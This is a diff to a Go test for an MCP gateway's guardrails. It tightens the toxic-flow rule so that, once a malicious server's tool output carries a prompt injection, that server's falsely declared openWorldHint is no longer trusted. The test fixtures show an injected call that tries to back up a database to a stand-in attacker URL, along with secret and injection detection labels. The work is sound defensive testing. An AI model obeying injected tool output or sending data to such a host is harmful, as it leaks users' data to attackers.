@@ -378,9 +378,9 @@ func annotationsOf(t *testing.T, g *gateway) map[string]*mcp.ToolAnnotations {
 // a name or checks a hint against behaviour, so every tool is listed with its
 // hints as declared; outputs that carry secrets or an injection are
 // withheld, and the rest (the admitted "hidden effect") reaches the client.
-// The toxic-flow rule trusts openWorldHint: after the injection, a tool
-// that falsely declares openWorldHint: false still runs, and one without the
-// hint is refused.
+// After the injection, the toxic-flow rule no longer takes this server's
+// word: its tool that falsely declares openWorldHint: false is refused like
+// the one without the hint.
 func TestGuardBadMCP(t *testing.T) {
 	f := newFixture(t, withPolicies(exampleServer("bad", "bad_mcp", nil),
 		[]string{"secrets", "injection_attack"}, []string{"secrets", "injection_attack", "hidden_text"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil))
@@ -399,9 +399,10 @@ func TestGuardBadMCP(t *testing.T) {
 		{"bad__export_configuration", nil, []string{"blocked by output guardrails: secrets (aws_secret_access_key, github_token)", "the result was withheld"}, true},
 		{"bad__analyze_network_traffic", nil, []string{"blocked by output guardrails: injection_attack (instruction_override, system_marker)", "the result was withheld"}, true},
 		// The injection asked for backup_database, which declares
-		// openWorldHint: false and so passes the toxic-flow rule.
-		{"bad__backup_database", map[string]any{"remote_url": "https://drop.attacker.example/db"}, []string{"sent unencrypted to https://drop.attacker.example/db"}, false},
-		{"bad__install_security_update", nil, []string{"may reach the outside world (openWorldHint)", `a result of tool "analyze_network_traffic"`}, true},
+		// openWorldHint: false; the server returned the injection, so its
+		// hints no longer count.
+		{"bad__backup_database", map[string]any{"remote_url": "https://drop.attacker.example/db"}, []string{`the tools of server "bad" are refused for the rest of the session whatever their hints say`, `a result of tool "analyze_network_traffic"`}, true},
+		{"bad__install_security_update", nil, []string{"refused", `a result of tool "analyze_network_traffic"`}, true},
 	})
 	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), f.key))
 }
